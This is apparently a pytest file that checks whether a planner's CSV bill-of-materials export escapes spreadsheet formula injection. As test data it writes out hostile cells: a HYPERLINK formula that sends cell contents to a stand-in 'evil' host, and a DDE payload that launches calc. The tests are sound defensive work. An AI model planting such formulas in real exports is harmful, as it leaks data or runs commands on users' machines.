"""CSV formula injection (issue 14, finding 8): user text that a spreadsheet would run
as a formula is written with a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from api_support import api_client, small

from catalog.loader import load_catalog
from planner.report.csv_bom import render_boms_csv, spreadsheet_safe

SHIPPED = load_catalog()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil/?x="&A1,"click")', '\'=HYPERLINK("http://evil/?x="&A1,"click")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+1e3", "+1e3"),
        ("0.125", "0.125"),
        ("H100 (=ours)", "H100 (=ours)"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_bill_of_materials_csv_escapes_a_hostile_gpu_name_and_price_note(
    migrated_sqlite_url,
):
    gpu = SHIPPED.gpus["l40s"].model_dump(mode="json")
    gpu = {
        **gpu,
        "id": "evil-gpu",
        "name": '=HYPERLINK("http://evil.example/","x")',
        "price": {**gpu["price"], "note": "@SUM(1+1)"},
    }
    with api_client(migrated_sqlite_url) as client:
        assert client.post("/catalog/gpus", json=gpu).status_code == 201
        created = client.post("/plans", json=small(candidates={"gpus": ["evil-gpu"]}))
        assert created.status_code == 201, created.text
        assert set(created.json()["plan"]["gpus_by_type"]) == {"evil-gpu"}
        response = client.get(f"/plans/{created.json()['id']}/report?format=csv")
        assert response.status_code == 200, response.text
    table = rows(response.text)
    header, line = table[0], table[1]
    cell = dict(zip(header, line, strict=True))
    assert cell["gpu_name"] == '\'=HYPERLINK("http://evil.example/","x")'
    assert cell["note"].startswith("'@SUM(1+1)")
    assert float(cell["usd_per_hour"]) > 0  # numbers untouched
    for row in table:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)


def test_a_comparison_csv_escapes_variant_names():
    from planner.report.bom import build_bom
    from planner.service import make_plan

    plan = make_plan(small(), SHIPPED)
    bom = build_bom(plan.to_json_dict(), SHIPPED)
    table = rows(render_boms_csv({"=1+1": bom, "-x": bom}))
    assert {r[0] for r in table[1:]} == {"'=1+1", "'-x"}
